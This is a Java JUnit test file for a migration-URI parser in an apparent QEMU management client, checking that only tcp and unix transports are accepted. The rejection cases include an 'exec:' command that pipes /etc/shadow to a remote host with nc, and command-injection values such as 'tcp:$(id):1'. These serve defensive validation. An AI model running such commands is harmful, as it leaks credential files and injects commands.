package dev.ferry.qmp;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MigrationUriTest {

  @Test
  void tcpAndUnixAreReadAndWrittenBack() {
    assertThat(MigrationUri.parse("tcp:198.18.0.2:4444"))
        .isEqualTo(new MigrationUri.Tcp("198.18.0.2", 4444));
    assertThat(MigrationUri.parse("tcp:[::1]:5").text()).isEqualTo("tcp:[::1]:5");
    assertThat(MigrationUri.parse("tcp:Host-B.example:49152").text())
        .isEqualTo("tcp:host-b.example:49152");
    assertThat(MigrationUri.parse("unix:/run/ferry/m.sock"))
        .isEqualTo(new MigrationUri.Unix(Path.of("/run/ferry/m.sock")));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "exec:touch /tmp/ferry-pwned",
        "exec:nc 198.18.0.9 1 < /etc/shadow",
        "fd:3",
        "file:/tmp/guest-ram",
        "file:/etc/passwd,offset=0",
        "rdma:198.18.0.2:4444",
        "vsock:2:1234",
        "EXEC:id",
        " tcp:198.18.0.2:1"
      })
  void everyOtherTransportIsRefusedAndNamed(String uri) {
    assertThatThrownBy(() -> MigrationUri.parse(uri))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("is not allowed");
    assertThatThrownBy(() -> new MigrationCommand.Migrate(uri))
        .isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> new MigrationCommand.MigrateIncoming(uri))
        .isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> new MigrationCommand.MigrateRecover(uri))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "tcp:198.18.0.2:4444,ipv4=on",
        "tcp:198.18.0.2",
        "tcp::4444",
        "tcp:198.18.0.2:70000",
        "tcp:198.18.0.2:-1",
        "tcp:host;id:1",
        "tcp:a b:1",
        "tcp:$(id):1",
        "unix:relative.sock",
        "unix:/tmp/a.sock,abstract=on"
      })
  void optionsBadHostsAndBadPortsAreRefused(String uri) {
    assertThatThrownBy(() -> MigrationUri.parse(uri)).isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> new MigrationCommand.Migrate(uri))
        .isInstanceOf(IllegalArgumentException.class);
  }
}
